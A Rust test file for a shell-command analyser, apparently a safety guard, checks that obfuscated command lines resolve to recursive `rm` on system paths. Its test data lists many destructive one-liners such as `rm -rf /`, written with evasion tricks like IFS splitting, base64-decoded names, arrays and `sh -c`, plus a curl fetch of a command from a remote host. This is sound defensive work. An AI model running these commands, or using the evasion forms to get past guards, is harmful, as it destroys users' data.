//! The abstract interpreter: command words built at run time from values the line itself
//! sets (assignments, IFS, arrays, positional parameters, `read` from literal input,
//! decodable substitutions, `sh -c` arguments) are resolved to the program they name; what
//! stays unknown is "any program with these arguments".

use bulwark_shell::{Cap, analyse};

/// The line runs `rm` recursively on `target`.
fn runs_rm_on(line: &str, target: &str) {
    let a = analyse(line);
    assert!(
        a.invocations
            .iter()
            .any(|i| i.name == "rm" && i.argv.flag("r") && i.args.iter().any(|o| o == target)),
        "no rm -r {target} in {line:?}: {:#?}",
        a.invocations
    );
    assert!(a.caps.contains(Cap::ExecIrreversible), "{line:?}");
}

#[test]
fn values_set_on_the_line_name_the_program() {
    for (line, target) in [
        ("c=\"rm,-rf,/srv\"; IFS=,; $c", "/srv"),
        ("${u:-rm} -rf /", "/"),
        ("${u:=rm} -rf /", "/"),
        ("a=(rm -rf /var/lib); \"${a[@]}\"", "/var/lib"),
        ("a=(rm -rf /var/lib); ${a[*]}", "/var/lib"),
        ("a=(ls rm); ${a[1]} -rf /", "/"),
        ("x=r;y=m;$x$y -rf /", "/"),
        ("set -- rm -rf /; \"$@\"", "/"),
        ("set -- rm -rf /; $1 $2 $3", "/"),
        ("read -r a <<< rm; $a -rf /", "/"),
        ("read a b <<< 'rm /etc'; $a -rf $b", "/etc"),
        ("c=rm; declare -n r=c; $r -rf /", "/"),
        ("export c=rm; $c -rf /home", "/home"),
        ("local c=rm; $c -rf /", "/"),
        ("c=$(echo cm0= | base64 -d); $c -rf /", "/"),
        ("c=`printf rm`; $c -rf /", "/"),
        ("sh -c '$0 -rf /' rm", "/"),
        ("bash -c '\"$@\"' _ rm -rf /", "/"),
        ("bash -c '$1 -rf $2' _ rm /usr", "/usr"),
        ("c=RM; ${c,,} -rf /", "/"),
        ("c=xrm; ${c:1} -rf /", "/"),
        ("c=rmx; ${c:0:2} -rf /", "/"),
        ("c=rXm; ${c/X/} -rf /", "/"),
        ("p=/bin/rm; $p -rf /", "/"),
        ("f() { rm -rf \"$1\"; }; f /", "/"),
    ] {
        runs_rm_on(line, target);
    }
}

#[test]
fn unknown_programs_with_destructive_arguments() {
    for line in [
        "$CMD -rf /",
        "\"$(cat /tmp/x)\" -rf /",
        "$1 -R 000 /",
        "${X} --no-preserve-root -rf /",
        "$(curl -s https://x.example/c) -rf ~",
        "eval \"$X -rf /etc\"",
    ] {
        let a = analyse(line);
        assert!(a.has("shell.unknown_destructive"), "{line:?}: {a:#?}");
        assert!(a.caps.contains(Cap::ExecIrreversible), "{line:?}");
    }
    // Recursive flags on a path outside the workspace, not the system: asked about.
    for line in ["$CMD -rf /opt/app/data", "$T -r ~/projects/x"] {
        let a = analyse(line);
        assert!(a.has("shell.unknown_recursive"), "{line:?}: {a:#?}");
        assert!(!a.has("shell.unknown_destructive"), "{line:?}");
    }
    for line in [
        "$EDITOR README.md",
        "$CC -O2 -o build/app main.c",
        "\"$PYTHON\" -m pytest -x",
        "$MAKE -j4",
        "$PAGER /var/log/syslog",
        "$GIT status",
    ] {
        let a = analyse(line);
        assert!(
            !a.has("shell.unknown_destructive") && !a.has("shell.unknown_recursive"),
            "{line:?}"
        );
        assert!(!a.caps.contains(Cap::ExecIrreversible), "{line:?}");
    }
}

#[test]
fn values_that_are_not_programs_stay_data() {
    for line in [
        "c=rm; echo $c -rf /",
        "a=(rm -rf /); printf '%s\\n' \"${a[@]}\"",
        "set -- rm -rf /; echo \"$@\"",
        "read -r a <<< rm; echo $a",
    ] {
        let a = analyse(line);
        assert!(!a.caps.contains(Cap::ExecIrreversible), "{line:?}: {a:#?}");
    }
    // A later assignment wins; values do not leak into single quotes.
    let a = analyse("c=rm; c=ls; $c -la /");
    assert!(a.invocations.iter().any(|i| i.name == "ls"));
    assert!(!a.caps.contains(Cap::ExecIrreversible));
}
